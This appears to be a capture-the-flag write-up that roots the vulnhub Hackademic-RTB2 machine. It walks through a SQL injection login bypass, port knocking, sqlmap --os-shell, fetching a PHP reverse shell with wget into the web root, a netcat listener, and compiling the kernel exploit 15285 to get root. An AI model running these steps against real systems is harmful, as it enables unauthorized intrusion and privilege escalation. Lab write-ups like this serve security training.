CTF Challenges

Hack the Hackademic-RTB2 (Boot2Root)

Hello friends! Today we are going to solve a very simple and easy CTF challenge of the vulnhub. This is the second realistic hackademic challenge (root this box) by mr.pr0n. Download the target it from here.

Penetrating Methodologies

  • Network Scanning (Nmap, netdiscover)
  • SQL-Injection on Login Form
  • Decrypting Hint to Get ports for port knocking
  • Port Knocking using NMAP
  • SQL-Injection using Sqlmap on URL
  • Upload and execute a Reverse shell
  • Reverse connection (netcat)
  • Exploiting target (exploit 15285)
  • Get Root access and capture the flag.

Let’s Start!!!

Start off with finding the target using:


Our target is Now scan the target with nmap aggressive:

nmap -A

With the nmap scan, youcan perceive the port 80 is open and port 666 is filtered.

Further, when you will navigate to port 80 by exploring its IP in the browser, you will be welcomed by a login page as shown below.

Look at this login form; we can try for SQL injection to bypass this page. So, we had tried the following malicious character inside the text field as shown in the below image.

Username: ' or 1=1--'
Password: ' or 1=1--'

Superb!! We have bypassed the login form. But here, the author has left a message for which indicates that this is not the correct place to hunt the clue for any loophole.So we looked into its source code and notice some encoded text here.

Since the above text was URL encoded string and we have used burp suite to decode it. So now decode it into HEX and then HEX to Text.

“Knock Knock Knocking on heaven’s door”

Feels like it is some kind of port knocking and the 8-bit binary words could be possible some ports.

Further, we copied the binary string so that we can decode it, to obtain readable text.  As you can see it, here we have obtained a series of port number 1001:1101:1011:1001.

We have used nmap to recursively hit the ports using the -r parameter.

nmap -r -p 1001,1101,1011,1001

After this when we scanned the target IP once again using nmap and found that the port 666 is open and also running Apache server.nmap -sV

At this moment, we navigate to the newly opened port on the browser by exploring to the following URL

While browsing the website, we came across the “List of content items…” this URL was holding multiple parameters. I found this URL little bit suspicious against SQL injection, let’s ensure this through sqlmap.

To test the URL for SQL-Injection we will use sqlmap to enumerate the database name with help of the following command.sqlmap -u "" --dbs --batchYuppie!!! This VM is vulnerable to SQLi and we have successfully enumerated the possible database name “Joomla” through sqlmap, now let’s try to inject our payload with help of –os-shell option.

sqlmap -u "" -D joomla --os-shell --batch


Superb!! We have spawned the os-shell of the target machine.

Now we will use this os- shell to upload a php backdoor, here we used pentestmonkey’s php-reverse-shell.php which is saved inside /usr/share/webshells/php directory, change the listening IP address as your device and the port number as your choice and start a python server using the following command for transferring this file.

python -m SimpleHTTPServer 80

And in the os-shell, we will use the wget to download the reverse shell.Since we have uploaded the malicious php inside the /var/www, therefore let’s navigate to the web browser and try to execute the revshell.php file but do not forget to start netcat listener.

nc -lvp 1234

Boom!!  We have compromised the target shell successfully, Here we havediscovered the Linux kernel is version being 2.6.32, after searching not for long on the internet we found the “RDS kernel exploit for privilege escalation from user to root”.

So we downloaded the 15285.c from https://www.exploit-db.com/exploits/15285/ and move it to Desktop where our python server was already running.

On the target machine, we first use the python one-liner to spawn proper tty shell

python -c 'import pty;pty.spawn("/bin/bash")'

Now we move to tmp folder cd /tmp to download the exploit on the target machine using wget command and compile the C file using gcc.

gcc 15285.c -o kernel

Then give the file executable permissions and now run the compiled exploit

chmod 777 kernel

and BOOM you got the root. Now go to root directory only to discover that there is a key.txt file

When we tried to read the file then it was found to be encoded into base 64.

With the help of the following command, we will try to decrypt the content of this file.

base64 -d Key.txt > key

Now when we tried to open the file using file command it gave us the description of PNG image

file key

To view it we copied it to /var/www only to download it and view the image.

cp key/var/www

Now download the file from theURL and open in your system to discover that it’s the root flag and you havesuccessfully solved the CTF.

Author:  Deepanshu is a Certified Ethical Hacker and abudding Security researcher. Contact here.